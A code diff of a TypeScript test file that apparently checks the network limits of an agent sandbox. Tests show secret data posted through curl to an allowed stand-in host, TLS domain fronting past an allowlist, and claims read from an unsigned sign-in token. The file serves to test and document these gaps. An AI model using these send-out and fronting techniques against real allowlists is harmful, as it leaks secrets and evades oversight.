@@ -89,22 +89,19 @@ open(
   },
 );
 
-open(
-  'A host that is allowed can be sent data, such as github.com by anybody with an account there.',
-  async () => {
-    let sent = '';
-    const server = createHttpServer((request, answer) => {
-      request.on('data', (chunk: Buffer) => (sent += chunk.toString())).on('end', () => answer.end());
-    });
-    const { place, at } = await placeAllowing('uploads.example', server);
-    await place.prints(['curl', '-sS', '-d', 'SECRET', `http://${at}/`]);
-    server.close();
-    return sent === 'SECRET' && commonHosts.some(({ rule }) => rule === 'github.com:443');
-  },
-);
+open('An allowed host can be sent data, such as github.com by anybody with an account there.', async () => {
+  let sent = '';
+  const server = createHttpServer((request, answer) => {
+    request.on('data', (chunk: Buffer) => (sent += chunk.toString())).on('end', () => answer.end());
+  });
+  const { place, at } = await placeAllowing('uploads.example', server);
+  await place.prints(['curl', '-sS', '-d', 'SECRET', `http://${at}/`]);
+  server.close();
+  return sent === 'SECRET' && commonHosts.some(({ rule }) => rule === 'github.com:443');
+});
 
 open(
-  'Inside TLS nothing is looked at: a host behind the same front end as an allowed one may be reached by it.',
+  'Inside TLS nothing is looked at, unless a key is put in: a host behind the same front end as an allowed one may be reached by it.',
   async () => {
     const identity = await identityFor('hidden.example', await authorityOf(newFolder()));
     const server = createHttpsServer(identity, ({ socket }, answer) => {
@@ -165,7 +162,7 @@ open('While it runs, an agent can use keys and sign-ins that are kept outside.',
   return said === 'done';
 });
 
-open('Claims in the web tokens of a sign-in, such as an e-mail address, are visible inside.', async () => {
+open('Claims of a sign-in, such as an e-mail address, are visible inside.', async () => {
   const user = new Cai();
   const parts = [{ alg: 'none' }, { email: 'user@example.com' }];
   const access = [...parts.map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')), 's'].join('.'); // prettier-ignore
